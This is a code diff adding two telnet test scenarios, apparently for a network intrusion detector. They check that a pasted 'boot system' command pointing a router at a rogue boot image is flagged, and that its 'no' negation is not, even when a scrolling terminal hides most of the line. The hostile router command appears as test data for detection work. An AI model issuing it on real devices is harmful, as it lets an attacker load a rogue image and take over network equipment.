@@ -41,6 +41,34 @@ def bw07_wrapped_by_a_shell(wire: Wire) -> None:
     edited(wire, telnet.wrapping, f"boot system {EVIL}", prompt="edge1#")
 
 
+@scenario(
+    "BW07",
+    "malicious",
+    raises=ALERTS[:1],
+    site=HQ,
+    with_site=Expect((Notice("Boot_Command", "10.0.1.1", ROGUE, FILE),)),
+)
+def bw07_pasted_and_scrolled(wire: Wire) -> None:
+    """A long line is pasted: a readline that scrolls shows nothing of it but its end, over its own prompt."""
+    session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#")
+    session.login()
+    session.tcp.send(f"boot system {EVIL}\r\0".encode())
+    session.tcp.reply(b"\r\0<" + EVIL[-78:].encode())
+    session.tcp.reply(b"\r\nedge1(config)#")
+    session.close()
+
+
+@scenario("BW07", "benign", site=HQ, with_site=Expect())
+def bw07_pasted_negation(wire: Wire) -> None:
+    """The same of a line that takes the boot server away."""
+    session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#")
+    session.login()
+    session.tcp.send(f"no boot system {EVIL}\r\0".encode())
+    session.tcp.reply(b"\r\0<" + EVIL[-78:].encode())
+    session.tcp.reply(b"\r\nedge1(config)#")
+    session.close()
+
+
 @scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
 def bw07_cut_by_asa(wire: Wire) -> None:
     """ASA cuts at the right margin."""
